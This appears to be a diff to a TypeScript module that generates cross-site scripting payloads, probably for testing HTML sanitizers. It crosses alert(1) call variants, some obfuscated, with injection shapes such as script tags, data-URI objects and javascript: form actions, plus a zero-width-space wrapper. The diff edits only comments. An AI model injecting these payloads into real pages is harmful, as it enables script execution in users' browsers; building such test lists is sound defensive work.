@@ -1,4 +1,4 @@
-/** Three hundred ways to smuggle a script into a page. */
+/** Three hundred script injection payloads. */
 const calls = ['alert(1)', 'alert`1`', 'top.alert(1)', 'window["al"+"ert"](1)', 'eval("alert(1)")'];
 const shapes: ((call: string) => string)[] = [
   (call) => `<script>${call}</script>`,
@@ -32,7 +32,7 @@ const shapes: ((call: string) => string)[] = [
   (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
   (call) => `<form><button formaction="javascript:${call}" autofocus>x</button></form>`,
 ];
-/** Each shape as it is and behind an encoded or a zero byte's beginning. */
+/** Returns each payload as is and after escaped HTML with a zero-width space. */
 const wraps: ((payload: string) => string)[] = [(payload) => payload, (payload) => `&lt;b&gt;\u200b${payload}`];
 
 export const payloads = shapes.flatMap((shape) => calls.flatMap((call) => wraps.map((wrap) => wrap(shape(call)))));
